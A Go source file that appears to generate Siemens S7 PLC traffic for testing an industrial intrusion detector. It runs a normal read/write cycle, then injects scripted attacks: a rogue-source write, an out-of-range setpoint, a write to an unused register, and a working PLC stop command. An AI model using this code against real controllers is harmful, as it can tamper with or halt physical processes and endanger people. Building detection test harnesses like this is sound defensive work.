package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"time"

	"github.com/robinson/gos7"
)

// s7Client is what the S7 HMI and the attacks use of a client.
type s7Client interface {
	AGReadDB(db, start, size int, buf []byte) error
	AGWriteDB(db, start, size int, buf []byte) error
	PLCStop() error
	Close() error
}

// newS7Client connects to the PLC as rack/slot s7Rack/s7Slot. Without a
// source address it is robinson/gos7's client; gos7 cannot choose the local
// address (its dialer is internal, and its read/write code needs its own
// TCP handler), so with one it is the small client of ours below.
func newS7Client(connect, source string, timeout time.Duration) (s7Client, error) {
	if source == "" {
		h := gos7.NewTCPClientHandler(connect, s7Rack, s7Slot)
		h.Timeout = timeout
		h.IdleTimeout = 0 // the cycle keeps the connection busy; no idle timer goroutine
		if err := h.Connect(); err != nil {
			h.Close()
			return nil, fmt.Errorf("s7 connect %s: %w", connect, err)
		}
		return gos7Client{gos7.NewClient(h), h}, nil
	}
	ip := net.ParseIP(source)
	if ip == nil {
		return nil, fmt.Errorf("source %q is not an IP address", source)
	}
	return dialS7(connect, &net.TCPAddr{IP: ip}, timeout)
}

type gos7Client struct {
	gos7.Client
	h *gos7.TCPClientHandler
}

func (c gos7Client) Close() error { return c.h.Close() }

// PLCStop sends gos7's stop job. gos7 (at 1f14519e4846) reads byte 20 of
// the answer, one past the 20-byte ack_data a real CPU sends (parameter:
// the function byte alone), and reports an error for every answer: the
// panic is caught, and the error does not say whether the CPU stopped.
func (c gos7Client) PLCStop() (err error) {
	defer func() {
		if recover() != nil {
			err = nil
		}
	}()
	c.Client.PLCStop()
	return nil
}

// s7BoundClient is a minimal S7 client dialling from a chosen address: the
// same telegrams as gos7 (COTP CR with TSAPs 0x0100 → 0x0100|rack<<5|slot,
// setup communication asking for 480 bytes, read/write var of S7ANY BYTE
// items on a DB, PLC stop "P_PROGRAM").
type s7BoundClient struct {
	conn    net.Conn
	timeout time.Duration
	ref     uint16
	pduSize int
}

func dialS7(connect string, local net.Addr, timeout time.Duration) (*s7BoundClient, error) {
	d := net.Dialer{Timeout: timeout, LocalAddr: local}
	conn, err := d.Dial("tcp", connect)
	if err != nil {
		return nil, err
	}
	c := &s7BoundClient{conn: conn, timeout: timeout, ref: 0x0100}
	if err := c.handshake(); err != nil {
		conn.Close()
		return nil, fmt.Errorf("s7 connect %s: %w", connect, err)
	}
	return c, nil
}

func (c *s7BoundClient) handshake() error {
	tsap := uint16(0x0100 | s7Rack<<5 | s7Slot)
	cr := []byte{3, 0, 0, 22, // TPKT
		17, cotpCR, 0, 0, 0, 1, 0, // LI, CR, dst ref, src ref, class 0
		0xc0, 1, 0x0a, // TPDU size 1024
		0xc1, 2, 0x01, 0x00, // calling TSAP
		0xc2, 2, byte(tsap >> 8), byte(tsap)} // called TSAP
	resp, err := c.roundTrip(cr)
	if err != nil {
		return err
	}
	if len(resp) < 6 || resp[5]&0xf0 != cotpCC {
		return fmt.Errorf("no connection confirm: % x", resp)
	}
	setup := []byte{s7FuncSetup, 0, 0, 1, 0, 1, s7MaxPDU >> 8, s7MaxPDU & 0xff}
	p, err := c.job(setup, nil)
	if err != nil {
		return err
	}
	if len(p.param) != 8 {
		return fmt.Errorf("setup communication: parameter % x", p.param)
	}
	c.pduSize = int(binary.BigEndian.Uint16(p.param[6:]))
	return nil
}

func (c *s7BoundClient) roundTrip(frame []byte) ([]byte, error) {
	if err := c.conn.SetDeadline(time.Now().Add(c.timeout)); err != nil {
		return nil, err
	}
	if _, err := c.conn.Write(frame); err != nil {
		return nil, err
	}
	return readTPKT(c.conn, s7MaxTPKT)
}

type s7Ack struct{ param, data []byte }

// job sends one S7 job and returns its ack_data, checking header errors.
func (c *s7BoundClient) job(param, data []byte) (s7Ack, error) {
	c.ref++
	resp, err := c.roundTrip(tpktDT(s7PDU(rosctrJob, c.ref, 0, 0, param, data)))
	if err != nil {
		return s7Ack{}, err
	}
	b := resp[7:]
	if len(resp) < 7 || len(b) < 12 || b[0] != s7ProtocolID || (b[1] != rosctrAck && b[1] != rosctrAckDat) {
		return s7Ack{}, fmt.Errorf("s7: unexpected answer % x", resp)
	}
	if b[10] != 0 || b[11] != 0 {
		return s7Ack{}, fmt.Errorf("s7: error class %#02x code %#02x", b[10], b[11])
	}
	pl := int(binary.BigEndian.Uint16(b[6:]))
	if 12+pl > len(b) {
		return s7Ack{}, fmt.Errorf("s7: short answer % x", resp)
	}
	return s7Ack{b[12 : 12+pl], b[12+pl:]}, nil
}

// anyItem is an S7ANY item of size bytes at DB db, byte start.
func anyItem(fn byte, db, start, size int) []byte {
	a := start << 3
	return []byte{fn, 1, 0x12, 10, 0x10, 0x02, byte(size >> 8), byte(size), byte(db >> 8), byte(db), s7AreaDB,
		byte(a >> 16), byte(a >> 8), byte(a)}
}

func (c *s7BoundClient) AGReadDB(db, start, size int, buf []byte) error {
	ack, err := c.job(anyItem(s7FuncRead, db, start, size), nil)
	if err != nil {
		return err
	}
	if len(ack.data) < 4 || ack.data[0] != s7RCOK {
		return fmt.Errorf("s7 read: item % x", ack.data)
	}
	copy(buf, ack.data[4:])
	return nil
}

func (c *s7BoundClient) AGWriteDB(db, start, size int, buf []byte) error {
	data := append([]byte{0, 0x04, byte(size >> 5), byte(size << 3)}, buf[:size]...)
	ack, err := c.job(anyItem(s7FuncWrite, db, start, size), data)
	if err != nil {
		return err
	}
	if len(ack.data) != 1 || ack.data[0] != s7RCOK {
		return fmt.Errorf("s7 write: item return % x", ack.data)
	}
	return nil
}

func (c *s7BoundClient) PLCStop() error {
	_, err := c.job(append([]byte{s7FuncStop, 0, 0, 0, 0, 0, 9}, "P_PROGRAM"...), nil)
	return err
}

func (c *s7BoundClient) Close() error { return c.conn.Close() }

// s7Setpoint of cycle i as the two bytes of an INT.
func s7Word(v int16) []byte { return binary.BigEndian.AppendUint16(nil, uint16(v)) }

// runS7Client reads DB1's process values and writes the setpoint every
// cycle (every fifth cycle both setpoints with one job) until ctx ends;
// the attacks happen once, AttackAfter after the start. A lost connection
// is re-established on the next cycle.
func runS7Client(ctx context.Context, cfg clientConfig) error {
	logf := cfg.logf
	var c s7Client
	defer func() {
		if c != nil {
			c.Close()
		}
	}()
	tick := time.NewTicker(cfg.Period)
	defer tick.Stop()
	attackAt := time.Now().Add(cfg.AttackAfter)
	attacked := len(cfg.Attacks) == 0
	buf := make([]byte, s7PVBytes)
	for i := 0; ; i++ {
		if c == nil {
			var err error
			if c, err = newS7Client(cfg.Connect, cfg.Source, 3*time.Second); err != nil {
				logf("s7 client: %v", err)
				c = nil
			}
		}
		if c != nil {
			err := c.AGReadDB(s7DB, s7PVOffset, s7PVBytes, buf)
			if err == nil {
				sp := int16(setpoint(i))
				if i%5 == 4 {
					err = c.AGWriteDB(s7DB, s7SetpointOff, 4, append(s7Word(sp), s7Word(sp+1)...))
				} else {
					err = c.AGWriteDB(s7DB, s7SetpointOff, 2, s7Word(sp))
				}
			}
			if err != nil {
				logf("s7 client: %v", err)
				c.Close()
				c = nil
			}
		}
		if c != nil && !attacked && !time.Now().Before(attackAt) {
			attacked = true
			if err := s7Attack(cfg, c); err != nil {
				return err
			}
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
	}
}

func s7Attack(cfg clientConfig, c s7Client) error {
	for _, a := range cfg.Attacks {
		var err error
		switch a {
		case AttackRogueWrite:
			cfg.logf("attack: s7 %s: a new client from %q writes DB%d.DBW%d := %d", a, cfg.RogueSource, s7DB, s7SetpointOff, spMin+50)
			var rogue s7Client
			if rogue, err = newS7Client(cfg.Connect, cfg.RogueSource, 3*time.Second); err == nil {
				err = rogue.AGWriteDB(s7DB, s7SetpointOff, 2, s7Word(spMin+50))
				rogue.Close()
			}
		case AttackOutOfRange:
			cfg.logf("attack: s7 %s: DB%d.DBW%d := 9999 (normal %d…%d)", a, s7DB, s7SetpointOff, spMin, spMax)
			err = c.AGWriteDB(s7DB, s7SetpointOff, 2, s7Word(9999))
		case AttackUnseenRegister:
			cfg.logf("attack: s7 %s: write DB%d.DBW%d, never written before", a, s7DB, s7UnseenOff)
			err = c.AGWriteDB(s7DB, s7UnseenOff, 2, s7Word(1))
		case AttackPLCStop:
			cfg.logf("attack: s7 %s: PLC stop", a)
			err = c.PLCStop()
		}
		if err != nil {
			return fmt.Errorf("s7 attack %s: %w", a, err)
		}
	}
	return nil
}
